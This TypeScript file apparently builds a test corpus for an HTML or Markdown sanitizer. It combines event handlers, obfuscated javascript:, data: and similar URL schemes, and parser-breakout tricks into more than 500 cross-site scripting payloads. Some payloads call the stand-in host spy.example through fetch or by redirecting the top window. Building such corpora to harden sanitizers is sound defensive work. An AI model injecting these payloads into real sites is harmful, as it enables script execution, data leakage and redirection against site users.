/** Pieces of script, each of which runs when a browser shows it as it is. */
const SCRIPTS = ['alert(1)', 'window.__ran=1', "fetch('//spy.example')", 'top.location="//spy.example"']
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onscroll',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  '&#106;avascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'file:///',
  'blob:',
  'view-source:',
]
const CARRIERS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}x">link</a>`,
  (url) => `<img src="${url}x">`,
  (url) => `<iframe src="${url}x"></iframe>`,
  (url) => `<form action="${url}x"><button>go</button></form>`,
  (url) => `<object data="${url}x"></object>`,
  (url) => `<embed src="${url}x">`,
  (url) => `<svg><a xlink:href="${url}x"><text>t</text></a></svg>`,
  (url) => `<math href="${url}x">m</math>`,
  (url) => `<base href="${url}x">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}x">`,
  (url) => `<link rel="stylesheet" href="${url}x">`,
  (url) => `<table background="${url}x"><tr><td>a</td><td>b</td></tr></table>`,
  (url) => `<video poster="${url}x"><source src="${url}x"></video>`,
  (url) => `[link](${url}x)`,
  (url) => `![image](${url}x)`,
  (url) => `<${url}x>`,
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'div',
  'a href=#',
  'marquee',
  'select autofocus',
]
const BREAKS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<math><mi><style><img src=x onerror=${script}></style></mi></math>`,
  (script) => `<svg><style><img src=x onerror=${script}></style></svg>`,
  (script) => `<xmp></xmp><script>${script}</script>`,
  (script) => `<textarea></textarea><img src=x onerror=${script}></textarea>`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `\\<script>${script}</script>`,
  (script) => `\`<script>${script}</script>`,
  (script) => `<style>@import '//spy.example/x.css';*{background:url(//spy.example)}</style><script>${script}</script>`,
  (script) => `<p style="background:url(javascript:${script})">x</p>`,
  (script) => `<isindex type=image src=1 onerror=${script}>`,
]

/** More than 500 hostile pieces of HTML and Markdown, written for this project from the known kinds of attack. */
export function hostilePieces(): readonly string[] {
  const events = EVENTS.flatMap((event) =>
    ELEMENTS.flatMap((element) => [
      `<${element} ${event}=${SCRIPTS[0] ?? ''}>`,
      `<${element}/${event}='${SCRIPTS[1] ?? ''}'>`,
    ]),
  )
  const schemes = SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier(scheme)))
  const breaks = SCRIPTS.flatMap((script) => BREAKS.map((carrier) => carrier(script)))
  return [...events, ...schemes, ...breaks]
}
